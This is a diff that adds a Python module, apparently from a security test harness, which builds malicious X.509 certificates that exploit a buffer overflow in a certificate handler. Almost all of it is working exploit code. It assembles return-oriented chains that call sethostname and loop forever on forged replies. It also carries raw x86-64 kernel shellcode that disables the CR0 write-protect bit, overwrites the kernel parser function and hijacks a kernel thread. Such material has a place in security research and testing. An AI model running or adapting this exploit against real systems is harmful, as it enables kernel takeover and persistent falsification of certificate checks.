@@ -1,0 +1,174 @@
+# SPDX-License-Identifier: GPL-2.0-only
+"""Certificates that take a handler over, and reply in its place from then on.
+
+They exploit the bug of the handler `x509-overflow` (harness/attacker/tools/overflow.py). All that
+such a certificate brings lies in the handler's variable `input` when the bug strikes.
+"""
+
+from __future__ import annotations
+
+import struct
+from typing import TYPE_CHECKING, Protocol
+
+from harness.attacker.tools.overflow import (
+    POP_RDI,
+    POP_RSI,
+    POP_RSP,
+    RET,
+    SYSCALL,
+    overflow,
+    place_of_brought,
+    words,
+)
+
+if TYPE_CHECKING:
+    from collections.abc import Sequence
+
+NAME = b"taken over"
+"""What the attacker calls the machine."""
+NODENAME = 65
+"""The place of the machine's name in `struct uts_namespace` (include/linux/utsname.h)."""
+MESSAGE, INPUT, PARSED = 56, 2048, 256
+"""Bytes of the parts of a request and its reply (overlay/kernel/umd_witness/message.h)."""
+
+_FRAME = struct.pack("<II", 0x46444D55, MESSAGE + PARSED)
+"""The frame of a reply up to its nonce (overlay/include/uapi/linux/umd.h)."""
+_NONCE = 16
+_SETHOSTNAME = 170
+_GAP = bytes(64)
+"""For functions, which use the memory below a stack."""
+_KEPT = 4096
+"""Where in the parser's arena something can be kept: no certificate takes as much of it."""
+_WRITE_PROTECT = 1 << 16
+"""The bit of the register CR0."""
+
+
+class Target(Protocol):
+    """What the attacker knows: a program, or the kernel with a module."""
+
+    def symbol(self, name: str) -> int:
+        """Return the address of a symbol."""
+
+    def code(self, code: bytes) -> int:
+        """Return an address at which these bytes are code."""
+
+
+class _Brought:
+    """What a certificate brings, part by part."""
+
+    def __init__(self, target: Target) -> None:
+        self.data = b""
+        self._start = target.symbol("input") + 4 + place_of_brought()
+
+    def add(self, data: bytes) -> int:
+        """Add a part, from a multiple of eight bytes on; return its address."""
+        self.data += bytes(-len(self.data) % 8)
+        at = self._start + len(self.data)
+        self.data += data
+        return at
+
+
+def process_file(target: Target, lie: bytes, *, framed: bool, names: bool) -> bytes:
+    """Return a certificate that has a handler process reply `lie`, now and ever after.
+
+    With `names`, the process first gives the machine a name. The certificate brings two stacks: for
+    its own reply, and for the next request. The second one copies itself anew before it starts
+    again, because the functions have used its memory.
+    """
+    code, symbol, brought = target.code, target.symbol, _Brought(target)
+    said, frame = brought.add(lie), brought.add(_FRAME)
+    taken = symbol("arena")
+
+    def call(function: str, first: int, second: int) -> list[int]:
+        return [code(POP_RDI), first, code(POP_RSI), second, symbol(function)]
+
+    def reply(nonce: int, message: int) -> list[int]:
+        stack = [*call("send", message, MESSAGE), *call("send", said, PARSED)]
+        if framed:
+            stack[:0] = [*call("send", frame, len(_FRAME)), *call("send", nonce, _NONCE)]
+        return stack
+
+    head = len(_FRAME) + _NONCE if framed else 0
+    brought.add(_GAP)
+    again_at = brought.add(bytes(PARSED))
+    copy_at = again_at + PARSED
+    again = [
+        *call("receive", taken, head + MESSAGE + INPUT),
+        *reply(taken + len(_FRAME), taken + head),
+        # As many bytes as the last call has sent: nothing else sets this register.
+        *call("memcpy", again_at, copy_at),
+        *(code(POP_RSP), again_at),
+    ]
+    brought.data = brought.data[:-PARSED] + 2 * words(again).ljust(PARSED, b"\0")
+
+    first = reply(symbol("outer") + len(_FRAME), symbol("reply"))
+    if names:
+        first[:0] = _set_name(target, brought)
+    brought.add(_GAP)
+    start = brought.add(words([*first, code(POP_RSP), again_at]))
+    return overflow(code(RET), [code(POP_RSP), start], brought.data)
+
+
+def _set_name(target: Target, brought: _Brought) -> Sequence[int]:
+    """Return a stack that calls sethostname(2). The length of a text is the call's number."""
+    text, name = brought.add(b"-" * _SETHOSTNAME + b"\0"), brought.add(NAME)
+    code = target.code
+    number = code(POP_RDI), text, target.symbol("strlen")
+    return *number, code(POP_RDI), name, code(POP_RSI), len(NAME), code(SYSCALL)
+
+
+def thread_file(target: Target, lie: bytes, *, names: bool) -> bytes:
+    """Return a certificate that has a kernel thread reply `lie`, now and ever after.
+
+    It makes its own bytes executable. They are code for the kernel, which overwrites the parser and
+    goes on as the thread does.
+    """
+    symbol, brought = target.symbol, _Brought(target)
+    kept = symbol("arena") + _KEPT
+    said = brought.add(lie)
+    # mov %rdx, %rdi; mov $kept, %rsi; mov $PARSED, %ecx; rep movsb; xor %eax, %eax; ret
+    parser = b"\x48\x89\xd7" + _move(b"\xc6", kept) + _copy_bytes(PARSED) + b"\x31\xc0\xc3"
+    parser_at = brought.add(parser)
+    name_at = brought.add(NAME + b"\0")
+    steps = [
+        # cli; mov %cr0, %rax; push %rax; and $~WRITE_PROTECT, %rax; mov %rax, %cr0
+        b"\xfa\x0f\x20\xc0\x50\x48\x25" + _low(~_WRITE_PROTECT) + b"\x0f\x22\xc0",
+        _copy(symbol("init_uts_ns") + NODENAME, name_at, len(NAME) + 1) if names else b"",
+        _copy(kept, said, PARSED),
+        _copy(symbol("umd_x509_parse"), parser_at, len(parser)),
+        # pop %rax; mov %rax, %cr0; sti
+        b"\x58\x0f\x22\xc0\xfb",
+        _call(symbol("umd_witness_send_parsed"), kept),
+        _call(symbol("umd_witness_send"), symbol("reply")),
+        _call(symbol("umd_witness_kthread"), 0),
+        _call(symbol("kthread_exit"), 0),
+    ]
+    start = brought.add(b"".join(steps))
+    page, pages = symbol("input") & ~0xFFF, 2
+    stack = target.code(POP_RDI), page, target.code(POP_RSI), pages, symbol("set_memory_x"), start
+    return overflow(target.code(RET), stack, brought.data)
+
+
+def _low(number: int) -> bytes:
+    """Return the half of a 64-bit number from which instructions make it: the rest is its sign."""
+    return struct.pack("<q", number if number < 1 << 63 else number - (1 << 64))[:4]
+
+
+def _move(register: bytes, number: int) -> bytes:
+    """x86-64: mov $number, %register."""
+    return b"\x48\xc7" + register + _low(number)
+
+
+def _copy_bytes(size: int) -> bytes:
+    """x86-64: mov $size, %ecx; rep movsb."""
+    return b"\xb9" + _low(size) + b"\xf3\xa4"
+
+
+def _copy(to: int, source: int, size: int) -> bytes:
+    """x86-64: mov $to, %rdi; mov $source, %rsi; mov $size, %ecx; rep movsb."""
+    return _move(b"\xc7", to) + _move(b"\xc6", source) + _copy_bytes(size)
+
+
+def _call(function: int, first: int) -> bytes:
+    """x86-64: mov $first, %rdi; mov $function, %rax; call *%rax."""
+    return _move(b"\xc7", first) + _move(b"\xc0", function) + b"\xff\xd0"
